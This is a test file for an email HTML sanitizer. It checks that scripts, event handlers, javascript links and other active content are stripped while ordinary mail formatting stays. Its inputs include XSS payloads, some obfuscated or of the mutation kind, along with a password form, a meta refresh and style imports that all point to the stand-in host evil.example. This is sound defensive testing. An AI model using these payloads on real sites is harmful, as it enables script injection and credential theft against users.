import { sanitizeHtml } from '../../../server/src/intake/sanitize-html';
import { bytesOf, corpus, describeWithCorpus } from '../support/corpus';
import { activeParts } from '../../../eval/inert-html';
import { parse } from '../support/parsed';
import { processorTime } from '../../support/processor-time';

const clean = (html: string): string => sanitizeHtml(html) ?? '';

describe('what acts is removed', () => {
  test.each([
    ['scripts', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
    ['scripts in pieces', '<scr<script>ipt>run()</scr</script>ipt>', null],
    [
      'event handlers',
      '<img src="cid:a" onerror="alert(1)"><p onclick=alert(1)>a</p>',
      '<img src="cid:a" /><p>a</p>',
    ],
    ['javascript links', '<a href="javascript:alert(1)">a</a>', null],
    ['javascript links in disguise', '<a href="jav&#x09;ascript&colon;alert(1)">a</a>', null],
    ['vbscript and data links', '<a href="vbscript:x">a</a><a href="data:text/html,x">b</a>', null],
    ['javascript images', '<img src="javascript:alert(1)">', null],
    [
      'style sheets',
      '<style>@import "http://evil.example/a.css"; p { color: red }</style><p>a</p>',
      '<p>a</p>',
    ],
    ['links to style sheets', '<link rel=stylesheet href="http://evil.example/a.css"><p>a</p>', '<p>a</p>'],
    ['forms', '<form action="http://evil.example"><input name=password><button>Go</button></form>', 'Go'],
    ['refreshes', '<meta http-equiv=refresh content="0;url=http://evil.example"><p>a</p>', '<p>a</p>'],
    ['bases', '<base href="http://evil.example/"><p>a</p>', '<p>a</p>'],
    ['drawings', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>', null],
    ['formulas', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>', null],
    [
      'frames',
      '<iframe src="http://evil.example" srcdoc="<script>alert(1)</script>"></iframe><p>a</p>',
      '<p>a</p>',
    ],
    [
      'objects',
      '<object data="a.swf"></object><embed src="a.swf"><applet code=a></applet><p>a</p>',
      '<p>a</p>',
    ],
    [
      'templates and noscript',
      '<template><img src=x onerror=a></template><noscript><p title="</noscript><img src=x onerror=a>">',
      null,
    ],
    ['unclosed tags', '<img src=x onerror=alert(1) <p>a', null],
    ['comments', '<!--[if mso]><script>alert(1)</script><![endif]--><p>a</p>', '<p>a</p>'],
    [
      'links without a protocol',
      '<a href="//evil.example">a</a>',
      '<a target="_blank" rel="noopener noreferrer nofollow">a</a>',
    ],
    [
      'remote sources of other kinds',
      '<img srcset="http://evil.example/a 2x" src="cid:a"><td background="http://evil.example/b">',
      null,
    ],
    ['ids and classes', '<p id="root" class="css-1a2b3c">a</p>', '<p>a</p>'],
  ])('%s', (_, html, expected) => {
    const cleaned = clean(html);
    expect(activeParts(cleaned)).toEqual([]);
    expect(cleaned).not.toMatch(/alert|evil\.example\/?[ab.]|srcset|srcdoc/);
    if (expected !== null) expect(cleaned).toBe(expected);
  });
});

describe('what a mail shows stays', () => {
  test.each([
    ['words', '<p>Hello <b>you</b><br>and <i>you</i></p>', '<p>Hello <b>you</b><br />and <i>you</i></p>'],
    [
      'tables with their looks',
      '<table border="1"><tr><td colspan="2" bgcolor="#fff">a</td></tr></table>',
      '<table border="1"><tr><td colspan="2" bgcolor="#fff">a</td></tr></table>',
    ],
    ['styles', '<p style="color:red">a</p>', '<p style="color:red">a</p>'],
    ['its own pictures', '<img src="cid:logo@x" alt="logo" />', '<img src="cid:logo@x" alt="logo" />'],
    [
      'remote pictures, for the frame to hold back',
      '<img src="https://x.example/a.png" />',
      '<img src="https://x.example/a.png" />',
    ],
    ['quotes', '<blockquote type="cite">a</blockquote>', '<blockquote type="cite">a</blockquote>'],
    ['text that looks like a tag', 'write to <ann@x.example>&lt;now&gt;', 'write to &lt;now&gt;'],
  ])('%s', (_, html, expected) => expect(clean(html)).toBe(expected));

  test.each(['https://x.example/?a=1', 'http://x.example', 'mailto:ann@x.example', 'tel:+4930123'])(
    'the link %s opens elsewhere and tells nothing',
    (href) =>
      expect(clean(`<a href="${href}" target="_self" rel="opener">a</a>`)).toBe(
        `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow">a</a>`,
      ),
  );

  test('cleaning twice changes nothing more', () => {
    const once = clean('<p>a &amp; b</p><a href="https://x.example/?a=1&b=2">c</a><script>d</script>');
    expect(clean(once)).toBe(once);
  });
});

describe('limits', () => {
  test('no HTML is none', () => expect(sanitizeHtml(null)).toBeNull());
  test('more than can be shown is not shown', () => {
    expect(sanitizeHtml('a'.repeat(12 * 1024 * 1024 + 1))).toBeNull();
    expect(sanitizeHtml('a'.repeat(10 * 1024 * 1024))).not.toBeNull();
  });

  test.each([
    ['deep', '<div>'.repeat(400_000)],
    ['deep and unmatched', '<b></i>'.repeat(200_000)],
    ['wide', '<p>a</p>'.repeat(100_000)],
    ['broken', '<a href="'.repeat(100_000)],
  ])('%s HTML does not hold the process', (_, html) => {
    const started = processorTime();
    sanitizeHtml(html);
    expect(processorTime() - started).toBeLessThan(5000);
  });

  test('a conversation quoted a hundred times is shown', () => {
    const quoted = '<div><div><blockquote><p>a</p>'.repeat(100) + '</blockquote></div></div>'.repeat(100);
    expect(clean(quoted).match(/<p>a<\/p>/g)).toHaveLength(100);
  });
});

describeWithCorpus('real hostile HTML', () => {
  const fragments = corpus('html-hostile', ['html-fragment', 'html-body']);

  test('of every known vector nothing that acts is left', () => {
    const left = fragments.map(({ id, input }) => ({ id, active: activeParts(clean(input ?? '')) }));
    expect(fragments.length).toBeGreaterThan(200);
    expect(left.filter(({ active }) => active.length > 0)).toEqual([]);
  });

  test('of every hostile mail something readable is left, and nothing that acts', async () => {
    const mails = corpus('html-hostile');
    const bad: string[] = [];
    for (const entry of mails) {
      const parsed = await parse(bytesOf('html-hostile', entry));
      const html = parsed.kind === 'parsed' ? sanitizeHtml(parsed.message.html) : null;
      const text = (html ?? '').replace(/<[^>]*>/g, '').trim();
      if (html === null || text === '' || activeParts(html).length > 0) bad.push(entry.id);
    }
    expect(mails.length).toBeGreaterThan(20);
    expect(bad).toEqual([]);
  });
});
